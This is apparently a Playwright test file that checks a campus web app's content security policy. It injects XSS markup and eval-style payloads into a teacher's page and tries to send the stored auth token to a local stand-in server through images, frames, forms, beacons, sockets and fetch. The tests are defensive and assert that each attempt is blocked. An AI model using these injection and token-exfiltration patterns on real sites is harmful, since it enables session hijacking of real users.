import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, password, people, signInByForm, test as base } from '../support/campus.ts';

interface Fixtures {
  /** Another server, and the addresses requested from it. */
  readonly elsewhere: { readonly origin: string; readonly asked: string[] };
  /** A teacher's page. Not one of `as`, because these attempts write errors to its console. */
  readonly teacher: Page;
}

/** Tries what docs/security.md describes under "A script in the page". */
const test = base.extend<Fixtures>({
  elsewhere: async ({ browserName: _browserName }, use) => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*').end();
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    const { port } = server.address() as AddressInfo;
    await use({ origin: `http://127.0.0.1:${port}`, asked });
    server.closeAllConnections();
    await new Promise((done) => server.close(done));
  },
  teacher: async ({ browser, baseURL }, use) => {
    const context = await browser.newContext({ ...(baseURL && { baseURL }) });
    const page = await context.newPage();
    await signInByForm(page, people.teacher.email, password);
    await use(page);
    await context.close();
  },
});

// The width does not matter.
test.skip(({ hasTouch }) => hasTouch);

/** Collects the directives of the page's content security policy that were violated. */
const noteRefusals = async (page: Page): Promise<void> => {
  await page.addInitScript(() => {
    const refused = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      refused.add(effectiveDirective);
    });
    Object.assign(window, { refused });
  });
};
const refusals = (page: Page): Promise<string[]> =>
  page.evaluate(() => [...(window as unknown as { refused: Set<string> }).refused]);
const hasRun = (page: Page): Promise<boolean> => page.evaluate(() => 'injected' in window);

test('markup injected into a page runs no script and loads nothing from elsewhere', async ({
  teacher,
  elsewhere,
}) => {
  await noteRefusals(teacher);
  await teacher.route('**/teacher/dashboard', async (route) => {
    const answer = await route.fetch();
    const markup = `<base href="${elsewhere.origin}/"><script>injected = 1</script>
      <script src="${elsewhere.origin}/script.js"></script>
      <img src="data:," onerror="injected = 1"><svg onload="injected = 1"></svg>
      <iframe srcdoc="<script>parent.injected = 1</script>"></iframe>
      <a id="bait" href="javascript:injected = 1">x</a>`;
    const body = (await answer.text()).replace('<div id="root">', `${markup}<div id="root">`);
    await route.fulfill({ response: answer, body });
  });
  await teacher.goto('/teacher/dashboard');
  await teacher.locator('#bait').dispatchEvent('click');
  await expect
    .poll(() => refusals(teacher))
    .toEqual(expect.arrayContaining(['base-uri', 'script-src-elem', 'script-src-attr']));
  // The application itself keeps working.
  await expect(teacher.getByRole('heading', { level: 1 })).toBeVisible();
  expect([await hasRun(teacher), elsewhere.asked]).toEqual([false, []]);
});

test('text that our own code would use as markup or script is refused', async ({
  teacher,
  elsewhere,
}) => {
  const taken = await teacher.evaluate(async (origin) => {
    // Code sent through the debugger may use eval until it first waits for something.
    await new Promise(requestAnimationFrame);
    const code = 'window.injected = 1';
    const markup = `<img src="data:," onerror="${code}">`;
    const place = document.body.appendChild(document.createElement('div'));
    const script = () => document.createElement('script');
    const ways: Readonly<Record<string, () => unknown>> = {
      innerHTML: () => (place.innerHTML = markup),
      insertAdjacentHTML: () => place.insertAdjacentHTML('beforeend', markup),
      write: () => document.write(markup),
      srcdoc: () => (document.createElement('iframe').srcdoc = markup),
      parser: () => new DOMParser().parseFromString(markup, 'text/html'),
      // oxlint-disable-next-line no-eval -- to be refused
      eval: () => (0, eval)(code),
      // oxlint-disable-next-line typescript/no-implied-eval -- to be refused
      timer: () => setTimeout(code),
      // oxlint-disable-next-line typescript/no-implied-eval -- to be refused
      function: () => new Function(code)(),
      text: () => (script().text = code),
      src: () => (script().src = `${origin}/script.js`),
      dataScript: () => (script().src = `data:text/javascript,${code}`),
      worker: () => new Worker(URL.createObjectURL(new Blob([code]))),
      policy: () =>
        (
          window as unknown as { trustedTypes: { createPolicy(...of: unknown[]): unknown } }
        ).trustedTypes.createPolicy('another', { createHTML: (text: string) => text }),
    };
    // The content security policy also blocks scripts in places that Trusted Types do not guard.
    const inline = script();
    inline.append(code);
    place.append(inline);
    return Object.entries(ways).flatMap(([way, attempt]) => {
      try {
        attempt();
        return [way];
      } catch {
        return [];
      }
    });
  }, elsewhere.origin);
  expect(taken).toEqual([]);
  expect([await hasRun(teacher), elsewhere.asked]).toEqual([false, []]);
});

test('code on the page, such as a dependency, can read the token but not send it elsewhere unnoticed', async ({
  teacher,
  elsewhere,
}) => {
  await noteRefusals(teacher);
  await teacher.goto('/teacher/dashboard');
  await expect(teacher.getByRole('heading', { level: 1 })).toBeVisible();
  const own = await teacher.evaluate(async () => {
    const token = localStorage.getItem('authToken') ?? '';
    const { iat, exp } = JSON.parse(atob(token.split('.')[1] ?? '')) as Record<string, number>;
    const headers = { authorization: `Bearer ${token}` };
    const { status } = await fetch('/api/faculty/students/all', { headers });
    return { status, seconds: (exp ?? 0) - (iat ?? 0), cookie: document.cookie };
  });
  // The token acts as the person until it expires; the session that renews it is out of reach.
  expect(own).toEqual({ status: 200, seconds: 900, cookie: '' });

  const sent = await teacher.evaluate(async (origin) => {
    const address = `${origin}/?${localStorage.getItem('authToken')}`;
    const put = <K extends keyof HTMLElementTagNameMap>(
      tag: K,
      values: Partial<HTMLElementTagNameMap[K]>,
    ) => document.body.appendChild(Object.assign(document.createElement(tag), values));
    const ways: readonly (() => unknown)[] = [
      () => put('img', { src: address }),
      () => put('iframe', { src: address }),
      () => put('link', { rel: 'stylesheet', href: address }),
      () => put('video', { src: address }),
      () => put('form', { action: address, method: 'post' }).submit(),
      () => new FontFace('x', `url(${address})`).load().catch(() => undefined),
      () => navigator.sendBeacon(address, 'x'),
      () => new WebSocket(address.replace('http', 'ws')),
      () => new EventSource(address),
    ];
    for (const attempt of ways)
      try {
        attempt();
      } catch {
        // Blocked at once; the others are reported as violations of the policy.
      }
    return fetch(address, { mode: 'no-cors' }).then(
      () => true,
      () => false,
    );
  }, elsewhere.origin);
  expect(sent).toBe(false);
  await expect
    .poll(async () => (await refusals(teacher)).toSorted())
    .toEqual([
      'connect-src',
      'font-src',
      'form-action',
      'frame-src',
      'img-src',
      'media-src',
      'style-src-elem',
    ]);
  expect(elsewhere.asked).toEqual([]);

  // No policy can stop a page from navigating away, which the person sees.
  await teacher.evaluate((origin) => window.location.assign(`${origin}/left`), elsewhere.origin);
  await expect.poll(() => elsewhere.asked).toContain('/left');
});
